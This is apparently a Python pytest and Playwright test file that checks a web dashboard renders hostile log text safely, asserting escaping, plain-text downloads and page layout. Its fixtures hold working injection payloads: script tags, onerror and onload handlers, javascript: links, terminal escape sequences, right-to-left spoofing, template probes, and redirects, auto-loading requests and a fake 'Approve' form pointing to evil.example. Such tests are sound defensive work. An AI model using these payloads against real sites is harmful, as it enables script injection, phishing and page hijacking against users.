"""What a log holds harms nothing: markup, escape sequences, very long lines, in every place where it is shown."""

import re

import pytest
from playwright.sync_api import expect

LONG = "ERROR " + "A" * 50_000
HOSTILE = "\n".join(
    [
        "starting",
        "ERROR <script>window.hacked = 1; alert(1)</script><img src=x onerror=window.hacked=2>",
        "ERROR \x1b[31mred\x1b]0;owned\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x9b2J",
        "ERROR \u202egnp.exe\u2066 {{ 7*7 }} ${7*7} </code></div></main><style>body{display:none}</style>",
        '"><svg onload=window.hacked=3> javascript:alert(1) <a href="javascript:window.hacked=4">click</a>',
        "<div hx-get=http://evil.example/ hx-trigger=load></div><form action=http://evil.example/><button>Approve</button>",
        "</textarea><meta http-equiv=refresh content='0;url=http://evil.example/'>",
        LONG,
    ]
)
MARKED = ("\x1b", "\x07", "\x9b", "\u202e", "\u2066")


@pytest.fixture(scope="module")
def job(shared):
    title = "<b onclick=window.hacked=5>title</b> \x1b[2J"
    body = {"errors": [{"context": HOSTILE, "title": title}]}
    made = shared.http.post("/process_errors", json=body).json()["results"][0]["job_id"]
    shared.http.post(
        f"/jobs/{made}/deny", json={"by": "<i>mallory</i>\u202e", "reason": "<img src=x onerror=hacked()>"}
    )
    assert shared.backend.wait(made, 20)
    return made


@pytest.mark.parametrize(
    "path",
    [
        "/dashboard",
        "/dashboard/jobs/{job}",
        "/dashboard/jobs/{job}/log",
        "/dashboard/jobs/{job}/log?find=%3Cscript",
        "/dashboard/history?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/dashboard/history",
        "/dashboard/pattern?pattern=%3Cscript%3E",
        "/dashboard/runbooks?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "/dashboard/audit?job={job}",
        "/dashboard/statistics",
    ],
)
def test_nothing_happens(shared, person, job, path):
    page = person(shared, size=(390, 844)).go(path.format(job=job))
    page.wait_for_load_state("load")
    page.wait_for_timeout(150)
    assert page.evaluate("window.hacked") is None
    assert (
        page.evaluate("document.querySelectorAll('#main img, #main svg[onload], #main script, main style').length") == 0
    )
    text = page.content()
    assert not [each for each in MARKED if each in text]
    assert "{{ 7*7 }}" in text or ">49<" not in text
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert len(text) < 400_000


def test_what_hides_is_made_visible(shared, person, job):
    page = person(shared).go(f"/dashboard/jobs/{job}")
    expect(page.locator("#excerpt")).to_contain_text("<script>window.hacked = 1; alert(1)</script>")
    expect(page.locator("#excerpt")).to_contain_text("\\u202egnp.exe")
    expect(page.locator("#excerpt")).to_contain_text(re.compile(r"A{100}.*more characters"))
    page.get_by_role("link", name="Whole log").click()
    expect(page.locator(".excerpt")).to_contain_text("javascript:alert(1)")


def test_raw_logs_and_markdown_are_files_and_no_pages(shared, job):
    raw = shared.http.get(f"/dashboard/jobs/{job}/log.txt")
    assert raw.headers["Content-Type"].startswith("text/plain")
    assert raw.headers["Content-Disposition"].startswith("attachment")
    assert raw.headers["X-Content-Type-Options"] == "nosniff"
    assert LONG in raw.text
    assert shared.http.get(f"/dashboard/jobs/{job}/report.md").headers["Content-Disposition"].startswith("attachment")


def test_streams_tell_no_markup_that_a_page_would_take(shared, person, job):
    page = person(shared).go("/dashboard")
    shared.post(HOSTILE.replace("starting", "again"))
    expect(page.get_by_role("heading", level=1)).to_have_text("A plan waits for you")
    assert page.evaluate("window.hacked") is None
